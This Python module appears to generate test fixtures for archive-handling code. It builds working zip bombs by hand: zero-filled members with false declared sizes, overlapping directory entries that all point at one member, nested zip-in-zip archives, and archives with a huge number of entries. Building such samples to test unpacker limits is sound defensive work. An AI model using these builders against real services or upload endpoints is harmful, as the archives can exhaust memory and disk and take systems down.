"""Archives that are small to send and large to open, or that lie about what they hold. Built by hand: no library writes such things."""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Final

from samples.builders.repack import zip_bytes

_BLOCK: Final = 1 << 20
_CRC_POLYNOMIAL: Final = 0xEDB88320


@dataclass(frozen=True)
class Member:
    """A raw zip member. ``size`` and ``crc`` are what the headers say, whatever ``data`` (as stored) holds."""

    name: bytes
    data: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    local_name: bytes | None = None


def raw_zip(members: list[Member], comment: bytes = b"") -> bytes:
    """A zip with exactly these headers. Sizes up to 4 GiB (no zip64)."""
    body, directory = bytearray(), bytearray()
    for member in members:
        offset = len(body)
        body += _local_header(member) + member.data
        directory += _central_header(member, offset)
    return bytes(body + directory + _end(len(members), len(directory), len(body), comment))


def zero_bomb(size: int, name: str = "malinger.csv", declared: int | None = None) -> bytes:
    """A zip with one member of ``size`` zero bytes, a thousandth of that on the wire; ``declared`` is a false size for its headers."""
    return raw_zip([Member(name.encode(), deflated_zeros(size), size if declared is None else declared, crc_of_zeros(size))])


def overlapping_bomb(entries: int = 2000, kernel: int = 64 * _BLOCK) -> bytes:
    """A zip whose ``entries`` directory rows all point at one and the same member: its bytes are sent once and unpacked many times."""
    member = Member(b"a", deflated_zeros(kernel), kernel, crc_of_zeros(kernel))
    body = _local_header(member) + member.data
    directory = b"".join(_central_header(Member(f"{i:05d}".encode(), member.data, kernel, member.crc), 0) for i in range(entries))
    return body + directory + _end(entries, len(directory), len(body), b"")


def nested_bomb(depth: int = 12, inner: int = 4 * _BLOCK, width: int = 3) -> bytes:
    """Zips in zips: ``width`` copies at each of ``depth`` levels, zeros in the middle."""
    data, name = zero_bomb(inner, "0.txt"), "0.zip"
    for level in range(1, depth):
        data = zip_bytes({f"{copy}-{name}": data for copy in range(width)})
        name = f"{level}.zip"
    return data


def many_entries(count: int = 100_000) -> bytes:
    """A zip with ``count`` empty members."""
    return raw_zip([Member(f"{number // 1000}/{number}.txt".encode(), b"", 0, 0, zipfile.ZIP_STORED) for number in range(count)])


def quine_like_chain(depth: int) -> bytes:
    """A plain chain of zips, one in the other, with a text at the bottom: nothing large, only deep."""
    data = zip_bytes({"bunn.txt": b"Helt nederst ligger dette."})
    for level in range(depth - 1):
        data = zip_bytes({f"niva-{level}.zip": data})
    return data


def deflated_zeros(size: int) -> bytes:
    """``size`` zero bytes as a raw deflate stream. Made of equal flushed blocks, so it costs no time to make."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_BLOCK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    rest = zlib.compressobj(9, zlib.DEFLATED, -15)
    return block * (size // _BLOCK) + rest.compress(bytes(size % _BLOCK)) + rest.flush()


def crc_of_zeros(size: int) -> int:
    """CRC-32 of ``size`` zero bytes without going through them: in GF(2)[x], a zero byte multiplies the register by x⁸."""
    power, result, exponent = _times_x(1 << 31, 8), 1 << 31, size
    while exponent:
        if exponent & 1:
            result = _multiply(result, power)
        power, exponent = _multiply(power, power), exponent >> 1
    return _multiply(0xFFFFFFFF, result) ^ 0xFFFFFFFF


def _times_x(value: int, times: int) -> int:
    for _ in range(times):
        value = (value >> 1) ^ (_CRC_POLYNOMIAL if value & 1 else 0)
    return value


def _multiply(left: int, right: int) -> int:
    """Product of two polynomials modulo the CRC's, in its reflected order of bits (the highest bit is x⁰)."""
    product = 0
    for bit in range(31, -1, -1):
        if left >> bit & 1:
            product ^= right
        right = _times_x(right, 1)
    return product


def _local_header(member: Member) -> bytes:
    name = member.name if member.local_name is None else member.local_name
    return struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, member.flags, member.method, 0x4000, 0x5C25, member.crc, len(member.data), member.size, len(name), 0
    ) + name  # fmt: skip


def _central_header(member: Member, offset: int) -> bytes:
    fixed = struct.pack("<4s6H3I", b"PK\1\2", 20, 20, member.flags, member.method, 0x4000, 0x5C25, member.crc, len(member.data), member.size)
    return fixed + struct.pack("<5H2I", len(member.name), 0, 0, 0, 0, 0, offset) + member.name


def _end(count: int, directory_size: int, directory_offset: int, comment: bytes) -> bytes:
    """The closing record; over 65,535 entries it is preceded by the zip64 one."""
    closing = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, min(count, 0xFFFF), min(count, 0xFFFF), directory_size, directory_offset, len(comment))
    if count <= 0xFFFF:
        return closing + comment
    big = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, directory_size, directory_offset)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, directory_offset + directory_size, 1)
    return big + locator + closing + comment
